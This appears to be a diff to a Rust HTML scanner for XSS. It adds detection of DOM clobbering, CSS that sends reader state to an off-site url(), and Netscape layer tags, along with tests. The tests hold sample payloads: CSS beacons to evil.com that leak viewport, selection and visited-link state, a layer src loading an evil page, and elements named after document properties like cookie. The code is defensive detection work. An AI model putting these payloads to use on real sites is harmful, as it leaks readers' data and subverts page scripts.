@@ -22,6 +22,9 @@ pub struct XssFindings {
     /// Markup that loads from or posts to another site: a `<style>` with an
     /// off-site `url()`, a `<form>` with an off-site action and an input.
     pub offsite: bool,
+    /// An element whose `id` or `name` is a property of `document` that scripts
+    /// read (`<img name=cookie>`, `<a id=defaultView>`): DOM clobbering.
+    pub clobbers: bool,
 }
 
 impl XssFindings {
@@ -184,6 +187,84 @@ fn css_reads_page(css: &str) -> bool {
         .any(|p| css.contains(p))
 }
 
+/// CSS that loads only on a condition about the reader: a media, container or
+/// scope query, or a pseudo-class of what the reader does or has visited.
+fn css_reacts_to_reader(css: &str) -> bool {
+    [
+        "@media",
+        "@container",
+        "@scope",
+        "::selection",
+        ":hover",
+        ":active",
+        ":focus",
+        ":visited",
+        ":checked",
+    ]
+    .iter()
+    .any(|p| css.contains(p))
+}
+
+/// Extensions of what a stylesheet legitimately loads: images, fonts, cursors.
+const STYLE_ASSETS: &[&str] = &[
+    "png", "jpg", "jpeg", "gif", "webp", "avif", "svg", "ico", "bmp", "cur", "woff", "woff2",
+    "ttf", "otf", "eot",
+];
+
+/// An off-site `url()` whose path names no image or font file: a beacon that
+/// tells the other site the rule applied, not a picture.
+fn offsite_beacon(css: &str) -> bool {
+    css.match_indices("url(").any(|(p, _)| {
+        let v =
+            css[p + 4..].trim_start_matches(|c: char| c <= ' ' || matches!(c, '"' | '\'' | '`'));
+        if !offsite_value(v) {
+            return false;
+        }
+        let end = v
+            .find(|c: char| matches!(c, ')' | '"' | '\'' | '`' | '?' | '#') || c <= ' ')
+            .unwrap_or(v.len());
+        let path = v[..end]
+            .trim_start_matches("https:")
+            .trim_start_matches("http:");
+        // `//host` alone, or `//host/.../name`: the last segment's extension.
+        let last = path
+            .trim_start_matches('/')
+            .split('/')
+            .skip(1)
+            .last()
+            .unwrap_or("");
+        !last
+            .rsplit_once('.')
+            .is_some_and(|(_, ext)| STYLE_ASSETS.contains(&ext))
+    })
+}
+
+/// Properties of `document` that scripts read and a named element shadows.
+const DOCUMENT_PROPERTIES: &[&str] = &[
+    "cookie",
+    "defaultview",
+    "currentscript",
+    "getelementbyid",
+    "getelementsbyname",
+    "getelementsbytagname",
+    "queryselector",
+    "queryselectorall",
+    "createelement",
+    "documentelement",
+    "ownerdocument",
+    "attributes",
+    "nodename",
+    "nodetype",
+    "parentnode",
+    "childnodes",
+    "firstchild",
+    "lastchild",
+    "innerhtml",
+    "outerhtml",
+    "baseuri",
+    "implementation",
+];
+
 /// Scans `s` (decoded, lowercased) for script-running HTML.
 pub fn scan(s: &str) -> XssFindings {
     let mut f = XssFindings::default();
@@ -223,7 +304,8 @@ pub fn scan(s: &str) -> XssFindings {
             }
             if offsite_url(body) {
                 f.offsite = true;
-                f.leaks |= css_reads_page(body);
+                f.leaks |=
+                    css_reads_page(body) || (css_reacts_to_reader(body) && offsite_beacon(body));
             }
         }
         if matches!(local, "input" | "button" | "textarea" | "select") && offsite_form {
@@ -308,6 +390,13 @@ pub fn scan(s: &str) -> XssFindings {
                     f.dangerous_tag = true;
                 }
             }
+            // Netscape's `<layer src=…>` loads a document into the page.
+            if matches!(local, "layer" | "ilayer") && attr == "src" && !value.is_empty() {
+                f.dangerous_tag = true;
+            }
+            if matches!(attr, "id" | "name") && DOCUMENT_PROPERTIES.contains(&value) {
+                f.clobbers = true;
+            }
             if local == "meta" && attr == "http-equiv" && value == "link" {
                 meta_link = true;
             }
@@ -340,6 +429,8 @@ mod tests {
         assert!(scan("\"><iframe src=//evil>").dangerous_tag);
         assert!(scan("<svg:script>x</svg:script>").dangerous_tag);
         assert!(scan("<scr<script>ipt>").dangerous_tag);
+        assert!(scan("<layer src=\"http://evil/x.html\"></layer>").dangerous_tag);
+        assert!(!scan("<layer>css cascade layer</layer>").dangerous_tag);
     }
 
     #[test]
@@ -402,6 +493,35 @@ mod tests {
         ] {
             assert!(!scan(b).leaks, "flagged {b}");
         }
+    }
+
+    #[test]
+    fn stylesheets_that_beacon_on_the_reader_leak() {
+        for a in [
+            "<style>@media (min-width: 100px) { body { background: url(\"https://evil.com/width100\"); } }</style>",
+            "<style>::selection{background:url(\"https://evil.com/selected\")}</style>",
+            "<style>@container style(--theme: dark){.x{background:url(\"https://evil.com/dark\")}}</style>",
+            "<style>a:visited{background:url(//evil.com/v?site=bank)}</style>",
+        ] {
+            assert!(scan(a).leaks, "missed {a}");
+        }
+        for b in [
+            "<style>@media (min-width: 768px){.hero{background:url(https://cdn.example.com/hero-lg.jpg)}}</style>",
+            "<style>a:hover{background:url(//cdn.example.com/img/arrow.svg?v=2)}</style>",
+            "<style>body{background:url(https://evil.com/w)}</style>",
+            "<style>@media print{.x{color:black}}</style>",
+        ] {
+            assert!(!scan(b).leaks, "flagged {b}");
+        }
+    }
+
+    #[test]
+    fn elements_named_after_document_properties_clobber() {
+        assert!(scan("<img id=\"document\" name=\"defaultview\">").clobbers);
+        assert!(scan("<form name=getelementbyid></form>").clobbers);
+        assert!(scan("<a id=cookie href=x>").clobbers);
+        assert!(!scan("<input name=\"email\"><div id=\"document\">").clobbers);
+        assert!(!scan("set the cookie name=session").clobbers);
     }
 
     #[test]
